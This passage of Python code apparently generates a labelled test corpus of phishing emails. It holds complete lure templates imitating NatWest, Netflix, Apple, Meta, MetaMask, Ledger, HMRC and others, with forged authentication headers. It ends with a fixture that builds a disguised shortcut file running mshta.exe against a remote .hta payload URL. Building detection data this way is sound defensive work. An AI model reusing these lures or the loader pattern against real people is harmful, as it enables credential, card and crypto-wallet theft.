         "domain, the button a LinkedIn slink short-redirect to the phishing page.",
         to=Y, at=at, ip="77.32.148.21", rdns="mail148-21.sendinblue.com", helo="mail148-21.sendinblue.com",
         mailfrom=f"bounces-{rid(stem + 'bn', 7, DIGITS)}-{rid(stem + 'bn2', 8)}@sendibm4.com", spf="pass", from_dom=dom,
         dkims=[(dom, "mail", "pass"), ("sendibm4.com", "mail", "pass")], dmarc=("pass", "NONE"), head=head, body=body,
         sign=[(dom, "mail", {"headers": "From:To:Subject:Date:Message-Id:Mime-Version:Content-Type:List-Unsubscribe"}),
               ("sendibm4.com", "mail", {"headers": "From:To:Subject:Date:Message-Id:Mime-Version:Content-Type"})])


def a_natwest_webapp():
    stem = f"b{N}-phish-natwest-webapp"
    at = "2025-11-03 17:55:39"
    d = when(at) - timedelta(seconds=3)
    dom = "natwest-securemail.co"
    url = f"https://natwest-card-review-{rid(stem + 'w', 4, DIGITS)}.web.app/?id={rid(stem + 'id', 12, ALNUM)}"
    html = f"""<html><head><meta content="text/html;charset=UTF-8" http-equiv="Content-Type"></head><body ><div style="font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;"><div>
<table width="560" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;">
<tr><td style="background:#42145f;padding:16px 22px;"><b style="color:#fff;font-size:20px;">NatWest</b></td></tr>
<tr><td style="padding:20px 22px;font-size:14px;line-height:21px;color:#333;">
<b style="font-size:16px;">Your debit card has been suspended</b><br><br>
Dear Customer,<br><br>We have suspended your NatWest debit card after we were unable to confirm two recent transactions:<br><br>
&bull; &pound;749.00 - CURRYS ONLINE<br>&bull; &pound;312.50 - JD SPORTS<br><br>
If you do not recognise these payments, please review them immediately so that we can issue a replacement card and refund
any unauthorised payments.<br><br>
<a href="{url}" style="background:#5a287d;color:#fff;padding:10px 22px;text-decoration:none;border-radius:20px;">Review transactions</a><br><br>
NatWest Fraud Team</td></tr>
<tr><td style="padding:12px 22px;font-size:11px;color:#777;background:#f5f5f5;">National Westminster Bank Plc. Registered in England and Wales (Registered Number 929027). Registered Office: 250 Bishopsgate, London EC2M 4AA.</td></tr>
</table></div></div><br></body></html>
"""
    head = f"""Date: {rfc(d)}
From: {addr("NatWest", "fraud.team@" + dom)}
Reply-To: {addr("NatWest", "fraud.team@" + dom)}
To: {addr("", H)}
Message-Id: <{rid(stem + 'mid', 13, DIGITS)}.{rid(stem + 'mid2', 19, DIGITS)}@{dom}>
Subject: Your NatWest debit card has been suspended
MIME-Version: 1.0
Importance: High
User-Agent: Zoho Mail
X-Mailer: Zoho Mail
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")
    mail(stem, "phishing", "NatWest 'debit card suspended, review two transactions' lure sent from a Zoho Mail account on a "
         "look-alike .co domain, linking to a Firebase Hosting web.app credential and card page.",
         to=H, at=at, ip="136.143.188.94", rdns="sender4-op-o94.zoho.com", helo="sender4-op-o94.zoho.com",
         mailfrom="fraud.team@" + dom, spf="pass", from_dom=dom, dkims=[(dom, "zmail", "pass")], dmarc=("pass", "NONE"),
         head=head, body=body,
         sign=[(dom, "zmail", {"headers": "Date:Date:From:From:Reply-To:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:Content-Type:Reply-To", "i": "fraud.team@" + dom})],
         hops=[f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {int(d.timestamp()) * 1000 + 191}{rid(stem + 'z', 3, DIGITS)}.{rid(stem + 'z2', 6, DIGITS)}"
               f"\n\tfor <{H}>; {rfc(d - timedelta(seconds=1), ZoneInfo('America/Los_Angeles'))}"])


# ---------------------------------------------------------------------------------------------------------------
# Attacks, part 3: subscriptions, Apple, Microsoft, social networks, crypto, tax
# ---------------------------------------------------------------------------------------------------------------

def a_netflix_payment():
    stem = f"b{N}-phish-netflix-payment"
    at = "2025-02-02 20:11:58"
    d = when(at) - timedelta(seconds=2)
    dom = "netflix-billing-help.info"
    url = f"https://account-netflix.billing-update.{rid(stem + 'x', 4, DIGITS)}.info/uk/?session={rid(stem + 's', 24, ALNUM)}"
    html = page(f"""<tr><td style="padding:26px 40px 8px 40px;"><b style="color:#e50914;font-size:30px;letter-spacing:-1px;">NETFLIX</b></td></tr>
<tr><td style="padding:14px 40px 0 40px;font-size:28px;font-weight:bold;color:#221f1f;line-height:34px;">Update your payment information</td></tr>
<tr><td style="padding:18px 40px;font-size:16px;line-height:24px;color:#221f1f;">Hi Gordon,<br><br>We're having some trouble with your
current billing information. We'll try again, but in the meantime you may want to update your payment details.<br><br>
Your membership will be put on hold if payment is not received within 48 hours.</td></tr>
<tr><td style="padding:6px 40px 28px 40px;"><a href="{url}" style="display:block;background:#e50914;color:#fff;text-align:center;padding:14px 0;font-size:16px;font-weight:bold;text-decoration:none;border-radius:4px;">UPDATE ACCOUNT NOW</a></td></tr>
<tr><td style="padding:0 40px 26px 40px;font-size:16px;color:#221f1f;">Need help? We're here if you need it. Visit the <u>Help Centre</u> or <u>contact us</u>.<br><br>&mdash;Your friends at Netflix</td></tr>
<tr><td style="padding:20px 40px;background:#f3f3f3;font-size:11px;color:#a9a6a6;">This message was mailed to [{G}] by Netflix as part of your Netflix membership.<br>Netflix International B.V.</td></tr>""", "Netflix", bg="#ffffff")
    head = f"""From: {addr("Netflix", "info@" + dom)}
To: {G}
Subject: =?UTF-8?Q?Gordon=2C_your_account_is_on_hold_=E2=80=93_update_your_payment?=
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 8)}-{rid(stem + 'mid2', 4)}-{rid(stem + 'mid3', 4)}-{rid(stem + 'mid4', 4)}-{rid(stem + 'mid5', 12)}@{dom}>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")
    mail(stem, "phishing", "Netflix 'account on hold, update your payment' lure using the recipient's first name, sent "
         "from a look-alike .info domain and linking to a card-harvesting page on a disposable subdomain.",
         to=G, at=at, ip="92.119.179.12", rdns="mx.netflix-billing-help.info", helo="mx.netflix-billing-help.info",
         mailfrom="info@" + dom, spf="pass", from_dom=dom, dkims=[(dom, "default", "pass")], dmarc=("pass", "NONE"),
         head=head, body=body)


def a_spotify_gcs():
    stem = f"b{N}-phish-spotify-gcs"
    at = "2024-09-18 10:02:14"
    d = when(at) - timedelta(seconds=3)
    url = (f"https://storage.googleapis.com/{rid(stem + 'bk', 10, 'abcdefghijklmnopqrstuvwxyz')}-{rid(stem + 'bk2', 4, DIGITS)}/"
           f"premium.html#{rid(stem + 'frag', 16, ALNUM)}")
    html = f"""<html><body style="margin:0;background:#000;">
<table width="100%" cellpadding="0" cellspacing="0" style="background:#000;"><tr><td align="center" style="padding:30px 0;">
<table width="520" cellpadding="0" cellspacing="0" style="background:#121212;font-family:Helvetica,Arial,sans-serif;color:#fff;">
<tr><td style="padding:28px 32px;"><b style="color:#1ed760;font-size:26px;">&#9679; Spotify</b></td></tr>
<tr><td style="padding:0 32px;font-size:30px;font-weight:bold;line-height:36px;">Your Premium payment didn't go through</td></tr>
<tr><td style="padding:18px 32px;font-size:15px;line-height:23px;color:#b3b3b3;">We tried to charge your card for your Spotify Premium
Individual plan (&pound;11.99) but the payment was declined. Update your payment details to keep listening ad-free.</td></tr>
<tr><td style="padding:6px 32px 30px 32px;"><a href="{url}" style="background:#1ed760;color:#000;padding:14px 34px;border-radius:500px;font-weight:bold;text-decoration:none;">UPDATE PAYMENT</a></td></tr>
<tr><td style="padding:18px 32px;font-size:11px;color:#7f7f7f;">Spotify AB, Regeringsgatan 19, 111 53 Stockholm, Sweden</td></tr>
</table></td></tr></table></body></html>
"""
    head = f"""Message-ID: <{rid(stem + 'mid', 16)}.{rid(stem + 'mid2', 8, DIGITS)}@yourbrightsmile-dental.com>
Date: {rfc(d, ZoneInfo("America/Chicago"))}
From: {addr("Spotify", "reminders@yourbrightsmile-dental.com")}
To: {P}
Subject: Payment declined - action needed for Premium
MIME-Version: 1.0
X-Mailer: Smart_Send_4_4_2
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=iso-8859-1")
    body.params = '; charset="iso-8859-1"'
    body.data = html.encode("latin-1")
    mail(stem, "phishing", "Spotify Premium 'payment declined' lure sent via the appointment-reminder mailer of a compromised "
         "US dental practice, linking to a phishing page in a Google Cloud Storage bucket.",
         to=P, at=at, ip="69.49.245.18", rdns="gator4219.hostgator.com", helo="gator4219.hostgator.com",
         mailfrom="reminders@yourbrightsmile-dental.com", spf="pass", from_dom="yourbrightsmile-dental.com",
         dkims=[("yourbrightsmile-dental.com", "default", "pass")], head=head, body=body)


def a_outlook_mfa_qr():
    stem = f"b{N}-phish-outlook-mfa-qr"
    at = "2025-09-30 07:44:21"
    d = when(at) - timedelta(seconds=3)
    target = f"https://login-msverify.{rid(stem + 'd', 5, 'abcdefghijklmnopqrstuvwxyz')}.pages.dev/?u={b64email(H)}"
    png = files.qr_png(target)
    cid = f"qr_{rid(stem + 'cid', 10)}@{rid(stem + 'cid2', 8)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>
<div style="font-family:'Segoe UI',Tahoma,sans-serif;max-width:540px;color:#1b1b1b;">
<p style="font-size:15px;color:#2672ec;">Microsoft account</p>
<p style="font-size:30px;color:#2672ec;margin:0;">Security info update</p>
<p style="font-size:14px;line-height:20px;">Microsoft is retiring SMS security codes for Outlook.com accounts. To keep signing
in to <b>{H}</b> you must re-register two-step verification with the Microsoft Authenticator app by
<b>{(d + timedelta(days=2)).strftime('%d %B %Y')}</b>.</p>
<p style="font-size:14px;">Scan the QR code below with your phone camera to begin:</p>
<p><img src="cid:{cid}" width="198" height="198" alt="QR code"></p>
<p style="font-size:14px;">Thanks,<br>The Microsoft account team</p>
<p style="font-size:11px;color:#777;">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>
</div></body></html>
"""
    head = f"""From: {addr("Microsoft account team", "no-reply@msaccount-security.online")}
To: {H}
Subject: Action required: re-register two-step verification for {H}
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 32)}@msaccount-security.online>
MIME-Version: 1.0
"""
    body = Multi("related", f"----=_Part_{rid(stem + 'rb', 10, DIGITS)}", [
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8"),
        Leaf("image/png", png, "base64", '; name="qr.png"', 'inline; filename="qr.png"', [f"Content-ID: <{cid}>"])],
        params=' type="text/html";')
    mail(stem, "phishing", "Outlook.com 'SMS codes retired, re-register two-step verification' lure from a look-alike "
         "domain; the only call to action is an inline QR code image pointing to a Cloudflare Pages login page.",
         to=H, at=at, ip="38.180.63.202", rdns=None, helo="msaccount-security.online",
         mailfrom="no-reply@msaccount-security.online", spf="pass", from_dom="msaccount-security.online",
         dmarc=None, head=head, body=body)


def a_icloud_s3():
    stem = f"b{N}-phish-icloud-s3"
    at = "2025-07-28 05:37:02"
    d = when(at) - timedelta(seconds=2)
    dom = "cloud-storage-notice.com"
    bucket = f"https://icloud-{rid(stem + 'bk', 8)}.s3.us-east-2.amazonaws.com/storage/index.html?acc={b64email(Y)}"
    track = f"https://{rid(stem + 'aw', 8, 'abcdefghijklmnopqrstuvwxyz')}.r.us-east-2.awstrack.me/L0/{bucket.replace(':', '%3A').replace('/', '%2F').replace('?', '%3F').replace('=', '%3D')}/1/{rid(stem + 'aws', 48, 'abcdef0123456789-')}=425"
    html = page(f"""<tr><td align="center" style="padding:30px 30px 10px 30px;"><span style="font-size:40px;color:#3693f3;">&#9729;</span></td></tr>
<tr><td align="center" style="padding:0 30px;font-size:26px;font-weight:600;color:#1d1d1f;font-family:-apple-system,Helvetica,Arial;">Your iCloud storage is full.</td></tr>
<tr><td style="padding:20px 40px;font-size:15px;line-height:23px;color:#1d1d1f;font-family:-apple-system,Helvetica,Arial;">Dear Customer,<br><br>
Your iCloud storage is full and your photos, videos and files will be <b>permanently deleted</b> on
{(d + timedelta(days=1)).strftime('%d %B %Y')}. As a loyal customer you can upgrade to 50 GB of storage free for 12 months.</td></tr>
<tr><td align="center" style="padding:8px 30px 28px 30px;"><a href="{track}" style="background:#0071e3;color:#fff;padding:12px 28px;border-radius:980px;font-size:15px;text-decoration:none;">Get 50 GB free</a></td></tr>
<tr><td align="center" style="padding:16px 30px;font-size:11px;color:#86868b;">Apple ID | Support | Privacy Policy<br>Copyright &copy; 2025 Apple Distribution International Ltd. All rights reserved.</td></tr>""", "iCloud", bg="#f5f5f7")
    head = f"""From: {addr("iCloud", "no_reply@" + dom)}
To: {Y}
Subject: Your iCloud storage is full - Photos and videos will be deleted
MIME-Version: 1.0
Date: {rfc(d)}
Message-ID: <{rid(stem + 'ses', 16)}-{rid(stem + 'ses2', 8)}-{rid(stem + 'ses3', 4)}-{rid(stem + 'ses4', 4)}-{rid(stem + 'ses5', 4)}-{rid(stem + 'ses6', 12)}-000000@us-east-2.amazonses.com>
Feedback-ID: ::1.us-east-2.{rid(stem + 'fb', 43, ALNUM)}=:AmazonSES
X-SES-Outgoing: {d.strftime('%Y.%m.%d')}-23.251.{int(rid(stem + 'so', 3, DIGITS)) % 200 + 10}.{int(rid(stem + 'so2', 2, DIGITS))}
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")
    ip = f"23.251.{int(rid(stem + 'so', 3, DIGITS)) % 200 + 10}.{int(rid(stem + 'so2', 2, DIGITS))}"
    mail(stem, "phishing", "iCloud 'storage full, photos will be deleted, get 50 GB free' lure sent through Amazon SES from "
         "a look-alike domain, the link SES-click-tracked to an HTML page in an Amazon S3 bucket.",
         to=Y, at=at, ip=ip, rdns=f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.us-east-2.amazonses.com",
         helo=f"a{ip.split('.')[2]}-{ip.split('.')[3]}.smtp-out.us-east-2.amazonses.com",
         mailfrom=f"{rid(stem + 'ses', 16)}-{rid(stem + 'ses2', 8)}-000000@us-east-2.amazonses.com", spf="pass",
         from_dom=dom, dkims=[(dom, rid(stem + 'sel', 32, 'abcdefghijklmnopqrstuvwxyz234567'), "pass"),
                               ("amazonses.com", "ude4ghpzcwb5gdzw2wmbmzsrrrlsmb7j", "pass")],
         dmarc=("pass", "NONE"), head=head, body=body)


def a_appleid_edu():
    stem = f"b{N}-phish-appleid-edu"
    at = "2024-06-12 13:21:50"
    d = when(at) - timedelta(seconds=3)
    tenant = "alumnos.unicentro-andino.edu.pe"
    ip, host, hops = m365_out(stem, tenant, d, "nam12")
    url = f"https://appleid-support-case-{rid(stem + 'w', 5, DIGITS)}.firebaseapp.com/signin?case={rid(stem + 'case', 9, DIGITS)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">
<div style="font-family:-apple-system,Helvetica Neue,Helvetica,Arial,sans-serif;max-width:600px;color:#333;font-size:14px;line-height:20px;">
<p style="text-align:right;"><span style="font-size:26px;">&#63743;</span></p>
<p style="font-size:20px;">Your Apple ID has been locked</p>
<p>Dear Customer,</p>
<p>Your Apple ID was used to sign in to iCloud via a web browser from an unknown device and has been locked for security reasons.</p>
<p>Date and Time: {d.strftime('%B %d, %Y, %I:%M %p')} UTC<br>Browser: Firefox<br>Operating System: Windows<br>Location: Moscow, Russia</p>
<p>To unlock your Apple ID and review this activity, please verify your account information within 24 hours.</p>
<p><a href="{url}">Unlock Apple ID &gt;</a></p>
<p>Apple Support<br>Case number: {rid(stem + 'case', 9, DIGITS)}</p>
<p style="font-size:11px;color:#888;">Apple ID | Support | Privacy Policy<br>Copyright &copy; 2024 One Apple Park Way, Cupertino, CA 95014, United States. All rights reserved.</p>
</div></body></html>
"""
    body = Multi("alternative", outlook_boundary(stem), [
        text("Your Apple ID has been locked\r\n\r\nDear Customer,\r\n\r\nYour Apple ID was used to sign in to iCloud from an "
             f"unknown device and has been locked for security reasons.\r\n\r\nUnlock Apple ID: {url}\r\n\r\nApple Support\r\n"),
        text(html, "html")])
    head = f"""From: {addr("Apple Support", "a.quispe.h@" + tenant)}
To: {addr("", C)}
Subject: {b_subject(f"Your Apple ID has been locked – Case {rid(stem + 'case', 9, DIGITS)}")}
Thread-Topic: Your Apple ID has been locked
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {rfc(d)}
Message-ID: {outlook_msgid(stem)}
Accept-Language: es-PE, en-US
Content-Language: es-PE
{m365_tail(stem, tenant, d)}
MIME-Version: 1.0
"""
    mail(stem, "phishing", "Apple ID 'locked after sign-in from Moscow' lure sent from a compromised Peruvian university "
         "student Microsoft 365 mailbox, linking to a firebaseapp.com credential page.",
         to=C, at=at, ip=ip, rdns=host, helo=host, mailfrom="a.quispe.h@" + tenant, spf="pass",
         from_dom="unicentro-andino.edu.pe", dkims=[("unicentro-andino.edu.pe", "selector2", "pass")],
         dmarc=("pass", "NONE"), head=head, body=body, hops=hops,
         sign=[("unicentro-andino.edu.pe", "selector2", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def a_facebook_copyright():
    stem = f"b{N}-phish-facebook-copyright"
    at = "2025-04-17 15:59:07"
    d = when(at) - timedelta(seconds=2)
    sender = "meta.policy.review.center@gmail.com"
    ip, rdns, hops = gmail_out(stem, d)
    url = f"https://sites.google.com/view/meta-appeal-case-{rid(stem + 'case', 8, DIGITS)}/home"
    plain = (f"Meta Business Support\n\nCase #{rid(stem + 'case', 8, DIGITS)}\n\nWe have received a report that content on your "
             "Facebook page infringes the copyright of another party. In accordance with our Community Standards, your page is "
             "scheduled for permanent removal within 24 hours.\n\nIf you believe this is a mistake, you can submit an appeal "
             f"here:\n{url}\n\nIf no appeal is received, the decision will be final.\n\nThanks,\nThe Meta Team\n\n"
             "Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025\n")
    html = ('<div dir="ltr"><div style="font-family:Helvetica,Arial,sans-serif;max-width:560px">'
            '<div style="background:#1877f2;color:#fff;padding:12px 16px;font-size:18px;font-weight:bold">Meta Business Support</div>'
            f'<div style="padding:16px;font-size:14px;line-height:20px;color:#1c1e21"><b>Case #{rid(stem + "case", 8, DIGITS)}</b><br><br>'
            'We have received a report that content on your Facebook page infringes the copyright of another party. In accordance '
            'with our Community Standards, your page is scheduled for <b>permanent removal within 24 hours</b>.<br><br>'
            'If you believe this is a mistake, you can submit an appeal here:<br><br>'
            f'<a href="{url}" style="background:#1877f2;color:#fff;padding:9px 18px;border-radius:6px;text-decoration:none">Submit Appeal</a>'
            '<br><br>If no appeal is received, the decision will be final.<br><br>Thanks,<br>The Meta Team</div>'
            '<div style="font-size:11px;color:#8a8d91;padding:0 16px 16px 16px">Meta Platforms, Inc., Attention: Community Support, '
            '1 Meta Way, Menlo Park, CA 94025</div></div></div>\n')
    head = f"""MIME-Version: 1.0
From: {addr("Meta Support", sender)}
Date: {rfc(d, ZoneInfo("Asia/Ho_Chi_Minh"))}
Message-ID: {gmail_msgid(stem)}
Subject: =?UTF-8?Q?Your_page_will_be_deleted_=E2=80=94_Copyright?=
 =?UTF-8?Q?_Infringement_Notice?=
To: {G}
"""
    body = Multi("alternative", f"000000000000{rid(stem + 'bd', 16)}", [
        Leaf("text/plain", plain.encode(), "7bit", '; charset="UTF-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')])
    mail(stem, "phishing", "Meta 'copyright infringement, your page will be deleted in 24 hours' lure from a Gmail account, "
         "with the appeal button pointing to a Google Sites page that collects Facebook credentials and 2FA codes.",
         to=G, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom="gmail.com",
         dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), head=head, body=body, hops=fix_to(hops, G),
         sign=[("gmail.com", "20230601", {"headers": "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"})])


def a_instagram_netlify():
    stem = f"b{N}-phish-instagram-netlify"
    at = "2025-12-08 19:26:44"
    d = when(at) - timedelta(seconds=3)
    dom = "ig-verification-badge.com"
    url = f"https://meta-verified-badge-{rid(stem + 'n', 4, DIGITS)}.netlify.app/?ref=mail&amp;user=gordon.whitlock"
    html = page(f"""<tr><td align="center" style="padding:26px 20px 6px 20px;"><span style="font-family:'Billabong',cursive,Arial;font-size:32px;color:#262626;">Instagram</span></td></tr>
<tr><td align="center" style="padding:8px 30px;font-size:22px;font-weight:600;color:#262626;">You're eligible for Meta Verified</td></tr>
<tr><td style="padding:14px 34px;font-size:15px;line-height:22px;color:#262626;">Hi gordon.whitlock,<br><br>Good news! Based on your
account activity, you've been selected to receive the blue verification badge free of charge. The badge protects your
account against impersonation and unlocks priority support.<br><br>Claim it before <b>{(d + timedelta(days=2)).strftime('%B %d')}</b>, after
which this invitation will expire.</td></tr>
<tr><td align="center" style="padding:10px 30px 26px 30px;"><a href="{url}" style="background:#0095f6;color:#fff;padding:11px 34px;border-radius:8px;font-weight:600;text-decoration:none;">Claim badge</a></td></tr>
<tr><td align="center" style="padding:14px 30px;font-size:11px;color:#8e8e8e;">&copy; Instagram. Meta Platforms, Inc., 1601 Willow Road, Menlo Park, CA 94025<br>This message was sent to {P}.</td></tr>""", "Instagram", bg="#ffffff")
    head = f"""From: {addr("Instagram", "security@" + dom)}
To: {P}
Subject: gordon.whitlock, you've been selected for the blue badge
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 28, ALNUM)}@{dom}>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")
    mail(stem, "phishing", "Instagram 'you've been selected for the free blue verification badge' lure from a look-alike domain, "
         "linking to a Netlify-hosted page that asks for the Instagram login and 2FA code.",
         to=P, at=at, ip="194.26.29.118", rdns=None, helo="mail.ig-verification-badge.com", mailfrom="security@" + dom,
         spf="pass", from_dom=dom, dkims=[(dom, "default", "pass")], dmarc=("pass", "NONE"), head=head, body=body)


def a_metamask_ipfs():
    stem = f"b{N}-phish-metamask-ipfs"
    at = "2024-08-02 21:48:36"
    d = when(at) - timedelta(seconds=4)
    url = f"https://{rid(stem + 'cid', 59, 'abcdefghijklmnopqrstuvwxyz234567')}.ipfs.w3s.link/?wallet=verify"
    html = page(f"""<tr><td align="center" style="padding:26px;"><span style="font-size:40px;">&#129418;</span><br><b style="font-size:20px;color:#24272a;">METAMASK</b></td></tr>
<tr><td style="padding:6px 34px;font-size:20px;font-weight:bold;color:#24272a;">Wallet verification required</td></tr>
<tr><td style="padding:12px 34px;font-size:15px;line-height:23px;color:#535a61;">Dear MetaMask user,<br><br>As part of the new
Know-Your-Customer requirements, all wallets must be verified by <b>{(d + timedelta(days=3)).strftime('%d %B %Y')}</b>. Unverified wallets will be
restricted and assets may become temporarily inaccessible.<br><br>Verification takes less than 2 minutes.</td></tr>
<tr><td align="center" style="padding:14px 34px 30px 34px;"><a href="{url}" style="background:#037dd6;color:#fff;padding:13px 36px;border-radius:100px;font-weight:bold;text-decoration:none;">Verify my wallet</a></td></tr>
<tr><td align="center" style="padding:14px 30px;font-size:11px;color:#9fa6ae;">&copy; 2024 Consensys Software Inc. All rights reserved.</td></tr>""", "MetaMask")
    head = f"""From: {addr("MetaMask", "support@metamask-kyc-notice.xyz")}
To: {G}
Subject: [Important] Wallet verification required before {(d + timedelta(days=3)).strftime('%d/%m/%Y')}
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 24)}@metamask-kyc-notice.xyz>
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")
    mail(stem, "phishing", "MetaMask 'mandatory KYC wallet verification' lure from a .xyz look-alike sender with failing "
         "SPF, linking to an IPFS gateway page that asks for the secret recovery phrase.",
         to=G, at=at, ip="141.98.11.62", rdns=None, helo="metamask-kyc-notice.xyz", mailfrom="support@metamask-kyc-notice.xyz",
         spf="softfail", from_dom="metamask-kyc-notice.xyz", head=head, body=body, tls=False)


def a_ledger_seed():
    stem = f"b{N}-phish-ledger-seed"
    at = "2025-10-21 11:09:15"
    d = when(at) - timedelta(seconds=3)
    dom = "ledger-live-security.com"
    url = f"https://www.{dom}/firmware-update?device=nano-x&amp;id={rid(stem + 'id', 10, DIGITS)}"
    html = page(f"""<tr><td style="background:#000;padding:20px 28px;"><b style="color:#fff;font-size:22px;letter-spacing:2px;">LEDGER</b></td></tr>
<tr><td style="padding:24px 28px 6px 28px;font-size:20px;font-weight:bold;">Critical security update for your Ledger Nano</td></tr>
<tr><td style="padding:8px 28px;font-size:15px;line-height:23px;color:#333;">Dear customer,<br><br>A vulnerability affecting the secure
element of Ledger Nano S Plus and Nano X devices has been identified. To protect your assets, you must migrate your recovery
phrase to the new Ledger Recover protocol before <b>{(d + timedelta(days=4)).strftime('%B %d, %Y')}</b>.<br><br>
Devices that are not migrated may be unable to sign transactions after this date.</td></tr>
<tr><td style="padding:14px 28px 26px 28px;"><a href="{url}" style="background:#000;color:#fff;padding:13px 30px;text-decoration:none;font-weight:bold;">Start migration</a></td></tr>
<tr><td style="padding:14px 28px;background:#f4f4f4;font-size:11px;color:#777;">Ledger SAS, 1 rue du Mail, 75002 Paris, France.<br>You are receiving this email because you purchased a Ledger device.</td></tr>""", "Ledger")
    plain = (f"LEDGER\n\nCritical security update for your Ledger Nano\n\nA vulnerability affecting the secure element has been "
             f"identified. Migrate your recovery phrase before {(d + timedelta(days=4)).strftime('%B %d, %Y')}:\n"
             f"{url.replace('&amp;', '&')}\n\nLedger SAS\n")
    head = f"""From: {addr("Ledger", "security@" + dom)}
To: {P}
Subject: Ledger Security Notice: mandatory firmware migration
Date: {rfc(d, ZoneInfo("Europe/Paris"))}
Message-ID: <{rid(stem + 'mid', 8)}.{rid(stem + 'mid2', 8)}@{dom}>
MIME-Version: 1.0
"""
    body = Multi("alternative", f"b1_{rid(stem + 'b1', 43, ALNUM)}", [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=us-ascii"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=us-ascii")])
    mail(stem, "phishing", "Ledger 'critical firmware vulnerability, migrate your recovery phrase' lure from a look-alike "
         "domain with aligned SPF/DKIM, linking to a seed-phrase collection page on the same domain.",
         to=P, at=at, ip="185.225.74.160", rdns="mail.ledger-live-security.com", helo="mail.ledger-live-security.com",
         mailfrom="security@" + dom, spf="pass", from_dom=dom, dkims=[(dom, "x", "pass")], dmarc=("pass", "QUARANTINE"),
         head=head, body=body)


def a_hmrc_wordpress():
    stem = f"b{N}-phish-hmrc-refund"
    at = "2025-01-21 09:33:51"
    d = when(at) - timedelta(seconds=4)
    url = f"https://www.kingsleyguesthouse.co.uk/wp-includes/js/hmrc/claim/?ref={rid(stem + 'ref', 10, DIGITS)}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="margin:0;">
<div style="background:#0b0c0c;padding:12px 20px;"><span style="color:#fff;font-size:24px;font-weight:bold;font-family:Arial;">&#9819; GOV.UK</span></div>
<div style="max-width:580px;padding:20px;font-family:Arial,sans-serif;font-size:16px;line-height:24px;color:#0b0c0c;">
<p style="font-size:22px;font-weight:bold;">HM Revenue &amp; Customs</p>
<p>Dear Taxpayer,</p>
<p>After the last annual calculation of your fiscal activity we have determined that you are eligible to receive a tax refund of
<b>&pound;426.18</b>.</p>
<p>Please submit the tax refund request and allow us 3-5 working days to process it.</p>
<p><a href="{url}" style="color:#1d70b8;font-weight:bold;">Access your tax refund online</a></p>
<p>A refund can be delayed for a variety of reasons, for example submitting invalid records or applying after the deadline.</p>
<p>Yours sincerely,<br>Tax Credit Office<br>HM Revenue &amp; Customs</p>
<p style="font-size:12px;color:#505a5f;">Reference: {rid(stem + 'utr', 3, DIGITS)}-{rid(stem + 'utr2', 4, DIGITS)}-{rid(stem + 'utr3', 3, DIGITS)}</p>
</div></body></html>
"""
    head = f"""Date: {rfc(d, LONDON)}
To: {Y}
From: {addr("HMRC", "hmrc-refunds@kingsleyguesthouse.co.uk")}
Subject: Tax Refund Notification - You are eligible for a refund of GBP 426.18
Message-ID: <{rid(stem + 'mid', 43, ALNUM)}@www.kingsleyguesthouse.co.uk>
X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")
    mail(stem, "phishing", "HMRC '\u00a3426.18 tax refund' lure sent with PHPMailer from a compromised guest-house WordPress "
         "site, linking to a phishing kit hidden under its wp-includes directory.",
         to=Y, at=at, ip="109.203.124.33", rdns="cp-uk-3.webhostingdns.co.uk", helo="cp-uk-3.webhostingdns.co.uk",
         mailfrom="kingsley@cp-uk-3.webhostingdns.co.uk", spf="pass", from_dom="kingsleyguesthouse.co.uk",
         dmarc=None, head=head, body=body,
         hops=[f"Received: from kingsley by cp-uk-3.webhostingdns.co.uk with local (Exim 4.96.2)\n\t(envelope-from <kingsley@cp-uk-3.webhostingdns.co.uk>)\n"
               f"\tid 1ta{rid(stem + 'ex', 3, ALNUM)}-0003{rid(stem + 'ex2', 2, ALNUM)}-{rid(stem + 'ex3', 2, ALNUM)}\n\tfor {Y}; {rfc(d, LONDON)}"])


def a_irs_zip_lnk():
    stem = f"b{N}-phish-irs-zip-lnk"
    at = "2025-03-26 16:02:48"
    d = when(at) - timedelta(seconds=2)
    dom = "carrollbookkeeping-tax.com"
    sender = f"jcarroll@{dom}"
    ip, rdns, hops = gmail_out(stem, d)
    lnk = files.lnk_shortcut(r"C:\Windows\System32\mshta.exe", "hxxps://irs-transcripts-gov.com/cp2000.hta  # inert sample")
    z = files.zip_archive([("IRS_CP2000_Notice_2024.pdf.lnk", lnk)])
